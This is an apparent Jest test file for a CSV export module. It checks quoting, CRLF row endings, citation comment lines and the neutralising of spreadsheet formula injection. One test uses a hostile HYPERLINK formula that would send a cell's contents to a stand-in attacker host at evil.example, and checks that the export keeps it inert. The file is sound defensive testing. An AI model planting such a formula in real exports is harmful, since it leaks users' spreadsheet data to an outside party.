import { csvCell, csvWithCitation, toCsv } from './csv'

/** Cells as a spreadsheet reads them (RFC 4180: quoted cells may hold commas, quotes doubled, line breaks). */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index]
    if (quoted && char === '"' && text[index + 1] === '"') {
      cell += '"'
      index += 1
    } else if (char === '"') {
      quoted = !quoted
    } else if (!quoted && (char === ',' || char === '\n')) {
      row.push(cell.replace(/\r$/, ''))
      cell = ''
      if (char === '\n') {
        rows.push(row)
        row = []
      }
    } else {
      cell += char
    }
  }
  return rows
}

describe('csv', () => {
  it.each([
    ['plain', 'plain'],
    ['with, comma', '"with, comma"'],
    ['say "no"', '"say ""no"""'],
    ['two\nlines', '"two\nlines"'],
    [' padded ', '" padded "'],
    ['=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
    ['+7 495', "'+7 495"],
    ['-1', "'-1"],
    ['@home', "'@home"],
    ['Семашко', 'Семашко'],
    ['', ''],
  ])('writes %j as %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected)
  })

  it('ends every row with CRLF', () => {
    expect(
      toCsv([
        ['a', 'b'],
        ['1', '2'],
      ]),
    ).toBe('a,b\r\n1,2\r\n')
  })

  it('puts the citation on top as comment lines, one line per entry', () => {
    const text = csvWithCitation(
      [
        ['View', 'https://example.org/?a=1'],
        ['Filters', 'gas;\noil'],
      ],
      ['id'],
      [['RM01']],
    )
    expect(text.split('\r\n')).toEqual(['# View: https://example.org/?a=1', '# Filters: gas; oil', 'id', 'RM01', ''])
  })

  it('keeps a formula in a citation line inside that line’s one cell', () => {
    const text = csvWithCitation(
      [['Filters', 'search "x,=HYPERLINK(""https://evil.example/""&A1),"']],
      ['id'],
      [['-1']],
    )
    const cells = readCsv(text).flat()
    expect(cells[0]).toBe('# Filters: search "x,=HYPERLINK(""https://evil.example/""&A1),"')
    expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([])
  })
})
